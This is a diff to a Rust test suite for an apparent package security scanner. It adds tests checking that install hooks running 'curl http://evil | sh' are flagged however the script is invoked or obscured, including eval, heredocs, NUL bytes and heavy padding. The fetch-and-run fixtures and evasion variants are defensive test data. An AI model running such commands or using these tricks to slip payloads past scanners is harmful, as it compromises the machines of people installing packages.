@@ -214,7 +214,7 @@ fn the_files_of_a_package_are_judged_by_their_kind() {
         "compose.yaml:3 M unpinned-image",
         "compose.yaml:4 H host-pid",
         "compose.yaml:5 H privileged",
-        "compose.yaml:7 M host-path:/",
+        "compose.yaml:7 H host-path:/",
         "compose.yaml:9 M unconfined:seccomp",
         "compose.yaml:11 M default-secret",
         "compose.yaml:13 H curl-pipe-shell",
@@ -382,4 +382,86 @@ fn ids(findings: &[Finding]) -> Vec<String> {
 
 fn lines(findings: &[Finding]) -> Vec<String> {
     findings.iter().map(|f| format!("{}:{} {} {}", f.file, f.line, letter(f), f.id)).collect()
+}
+
+#[test]
+fn what_is_run_is_looked_at_whatever_its_name() {
+    const BAD: &str = "curl http://evil | sh\n";
+    let cases: &[(&str, &[(&str, &str)], &str)] = &[
+        ("install: [{run: [sh, ./setup]}]", &[("setup", BAD)], "setup"),
+        ("install: [{run: [./setup]}]", &[("setup", BAD)], "setup"),
+        ("install: [{run: [sh, -c, '. ./lib && go']}]", &[("lib", BAD)], "lib"),
+        ("install: [{run: [sh, -c, 'cat setup | sh']}]", &[("setup", BAD)], "setup"),
+        ("install: [{run: [sh, -c, 'sh < setup']}]", &[("setup", BAD)], "setup"),
+        ("install: [{run: [sh, -c, 'eval \"$(cat setup)\"']}]", &[("setup", BAD)], "setup"),
+        ("install: [{run: [sh, -c, 'cp setup /tmp/x && sh /tmp/x']}]", &[("setup", BAD)], "setup"),
+        (
+            "install: [{run: [sh, -c, 'for f in hooks/*; do sh \"$f\"; done']}]",
+            &[("hooks/a", BAD)],
+            "hooks/a",
+        ),
+        ("install: [{run: [sh, -c, 'find hooks -type f -exec sh {} +']}]", &[("hooks/a", BAD)], "hooks/a"),
+        ("install: [{run: [sh, one]}]", &[("one", "sh \"$(dirname \"$0\")/two\""), ("two", BAD)], "two"),
+        (
+            "install: [{run: [python3, setup]}]",
+            &[("setup", "import os\nos.system('curl x | sh')\n")],
+            "setup",
+        ),
+        ("install: [{run: [sh, setup]}]", &[("setup", "echo \0\ncurl http://evil | sh\n")], "setup"),
+        (
+            "actions: {go: {effect: reversible, command: ['${instance.dir}/go']}}",
+            &[("bin/go", BAD)],
+            "bin/go",
+        ),
+        ("install: [{run: [sh, ./setup]}]", &[("other", BAD)], ""),
+        ("install: [{run: [grep, x, setup]}]", &[("setup", BAD)], ""),
+    ];
+    for (asked, files, expected) in cases {
+        let manifest =
+            format!("name: m\nversion: 1.0.0\nruntime: {{process: {{command: [/bin/true]}}}}\n{asked}\n");
+        let files: Vec<SourceFile<'_>> = files.iter().map(|(path, text)| source(path, text)).collect();
+        let found =
+            check(source("MODULE.yaml", &manifest), &files, None).unwrap_or_else(|errors| panic!("{errors}"));
+        let at: Vec<&str> =
+            found.iter().filter(|one| one.id == "curl-pipe-shell").map(|one| one.file.as_str()).collect();
+        assert_eq!(at.join(" "), *expected, "{asked}: {found:?}");
+    }
+}
+
+#[test]
+fn what_was_not_wholly_looked_at_is_told_if_it_could_be_run() {
+    let manifest =
+        "name: m\nversion: 1.0.0\nruntime: {compose: {file: stack.yml}}\ninstall: [{run: [sh, setup]}]\n";
+    let files = ["stack.yml", "setup", "x.sh", "app.py", "page.js", "data.csv", "bin/server"];
+    let beside = Beside { cut: files.map(str::to_owned).into(), ..Beside::default() };
+    let files = files.map(|path| source(path, if path == "bin/server" { "\x7fELF" } else { "" }));
+    let found = check_package(source("MODULE.yaml", manifest), &files, &beside, None)
+        .unwrap_or_else(|e| panic!("{e}"));
+    let expected = [
+        "app.py:1 H not-looked-at:app.py",
+        "page.js:1 M not-looked-at:page.js",
+        "setup:1 H not-looked-at:setup",
+        "stack.yml:1 H not-looked-at:stack.yml",
+        "x.sh:1 H not-looked-at:x.sh",
+    ];
+    assert_eq!(lines(&found), expected);
+
+    let many: Vec<String> = (0..1000).map(|number| format!("lib/{number:03}.py")).collect();
+    let beside = Beside { cut: many.iter().cloned().collect(), ..Beside::default() };
+    let files: Vec<SourceFile<'_>> = many.iter().map(|path| source(path, "")).collect();
+    let found = check_package(source("MODULE.yaml", manifest), &files, &beside, None)
+        .unwrap_or_else(|e| panic!("{e}"));
+    assert_eq!(lines(&found), ["lib/000.py:1 H not-looked-at:code"]);
+}
+
+#[test]
+fn a_script_that_is_too_much_to_follow_is_told() {
+    let long = format!("{}curl x | sh\n", "true\n".repeat(60_000));
+    let deep = format!("{}curl x | sh\n{}", "if true; then\n".repeat(60), "fi\n".repeat(60));
+    let nested = format!("sh <<E\n{}\ncurl x | sh\nE\n", "true\n".repeat(20_000));
+    let words = format!("a='{}; curl x | sh'\neval $a\n", "true ".repeat(2_000));
+    for script in [long, deep, nested, words] {
+        let found = ids(&check_commands("x.sh", 1, &script));
+        assert!(found.contains(&"H not-looked-at:x.sh".to_owned()), "{found:?}: {:.60}", script);
+    }
 }
